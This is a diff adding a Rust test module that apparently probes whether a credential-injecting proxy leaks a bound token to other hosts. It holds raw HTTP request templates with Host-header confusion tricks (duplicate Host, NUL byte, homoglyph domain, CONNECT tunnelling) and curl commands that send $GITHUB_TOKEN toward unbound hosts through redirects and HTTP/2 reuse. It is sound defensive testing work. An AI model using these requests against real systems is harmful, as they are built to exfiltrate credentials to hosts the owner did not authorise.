@@ -1,0 +1,273 @@
+//! The token in a credential's place towards hosts that its secret is not bound to, and names that do not agree.
+
+use super::Channel::WrongHost;
+use super::Control::{Absent, Leaks};
+use super::To::{Bound, Strange, Unbound};
+use super::{Attempt, asks, does, shell};
+use crate::probe::Knowledge;
+
+pub(super) const ATTEMPTS: &[Attempt] = &[
+    asks(
+        "token to an allowed but unbound host",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as Authorization without a scheme",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as Authorization: token",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: token {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as Authorization: Digest",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Digest username=\"x\", response=\"{T}\", nonce=\"1\"\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host inside Basic",
+        WrongHost,
+        13,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Basic {B}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as x-api-key",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}X-Api-Key: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as api-key",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Api-Key: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as private-token",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Private-Token: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as x-goog-api-key",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}X-Goog-Api-Key: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host as x-auth-token",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}X-Auth-Token: {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "token to an unbound host in POST with a body",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "POST /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
+    ),
+    asks(
+        "token to an unbound host in a WebSocket's handshake",
+        WrongHost,
+        1,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nUpgrade: websocket\r\nConnection: Upgrade, close\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
+    ),
+    asks(
+        "token to a host that is not allowed",
+        WrongHost,
+        1,
+        Absent,
+        Strange,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "bound TLS name, unbound Host",
+        WrongHost,
+        9,
+        Leaks,
+        Bound,
+        "GET /echo HTTP/1.1\r\nHost: {UNBOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "unbound TLS name, bound Host",
+        WrongHost,
+        9,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    does("unbound TLS name at the bound host's address", WrongHost, 9, Leaks, name_mismatch),
+    does("bound TLS name at the unbound host's address", WrongHost, 9, Leaks, address_mismatch),
+    asks(
+        "absolute target of another host",
+        WrongHost,
+        9,
+        Leaks,
+        Bound,
+        "GET https://{UNBOUND}/echo HTTP/1.1\r\nHost: {BOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "absolute target of the bound host, sent to the unbound",
+        WrongHost,
+        9,
+        Leaks,
+        Unbound,
+        "GET https://{BOUND}/echo HTTP/1.1\r\nHost: {UNBOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "two Host headers",
+        WrongHost,
+        9,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {UNBOUND}\r\nHost: {BOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks("no Host header", WrongHost, 9, Leaks, Unbound, "GET /echo HTTP/1.1\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n"),
+    asks(
+        "X-Forwarded-Host and Forwarded",
+        WrongHost,
+        9,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {H}\r\nX-Forwarded-Host: {BOUND}\r\nForwarded: host={BOUND}\r\nX-Original-Host: {BOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host with userinfo",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}@{UNBOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host with another port",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}:8443\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host with a dot at its end",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}.\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host with a NUL",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}\u{0}.{UNBOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host that looks like the bound one",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: {BOUND}.{UNBOUND}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "Host with a letter of another alphabet",
+        WrongHost,
+        11,
+        Leaks,
+        Unbound,
+        "GET /echo HTTP/1.1\r\nHost: api.g\u{456}thub.com\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    asks(
+        "CONNECT to the unbound host through the bound one",
+        WrongHost,
+        4,
+        Leaks,
+        Bound,
+        "CONNECT {UNBOUND}:443 HTTP/1.1\r\nHost: {UNBOUND}:443\r\n{A}Proxy-Authorization: Bearer {T}\r\nAuthorization: Bearer {T}\r\nConnection: close\r\n\r\n",
+    ),
+    shell(
+        "follow the bound host's redirect to another host",
+        WrongHost,
+        5,
+        Absent,
+        &["curl"],
+        "$C -iL --location-trusted \"$BASE/go?to=https://$UNBOUND/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
+    ),
+    shell(
+        "follow an unbound host's redirect to the bound one's echo",
+        WrongHost,
+        5,
+        Absent,
+        &["curl"],
+        "$C -iL --location-trusted \"$FAR/go?to=https://$BOUND/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
+    ),
+    shell(
+        "one HTTP/2 connection for both hosts",
+        WrongHost,
+        9,
+        Absent,
+        &["curl"],
+        "$C --http2 --resolve \"$UNBOUND:443:$(getent ahostsv4 $BOUND | cut -d' ' -f1 | head -1)\" \"$BASE/user\" \"$FAR/echo\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
+    ),
+    shell(
+        "HTTP/2 with another authority",
+        WrongHost,
+        9,
+        Absent,
+        &["curl"],
+        "$C --http2 -i \"$FAR/echo\" -H \"Host: $BOUND\" -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"$NAMED\"",
+    ),
+    shell(
+        "token as userinfo of an address",
+        WrongHost,
+        11,
+        Leaks,
+        &["curl"],
+        "h=${FAR#https://}; $C -i \"https://x:$GITHUB_TOKEN@$h/echo\" -H \"$NAMED\"",
+    ),
+];
+
+fn name_mismatch(knowledge: &Knowledge) -> Vec<u8> {
+    let request = knowledge.fill("unbound TLS name at the bound host's address", &knowledge.bound, ECHO);
+    knowledge.find(&knowledge.bound).map_or_else(Vec::new, |to| knowledge.ask_at(to, &knowledge.unbound, &request))
+}
+
+fn address_mismatch(knowledge: &Knowledge) -> Vec<u8> {
+    let request = knowledge.fill("bound TLS name at the unbound host's address", &knowledge.bound, ECHO);
+    knowledge.find(&knowledge.unbound).map_or_else(Vec::new, |to| knowledge.ask_at(to, &knowledge.bound, &request))
+}
+
+const ECHO: &str = "GET /echo HTTP/1.1\r\nHost: {H}\r\n{A}Authorization: Bearer {T}\r\nConnection: close\r\n\r\n";
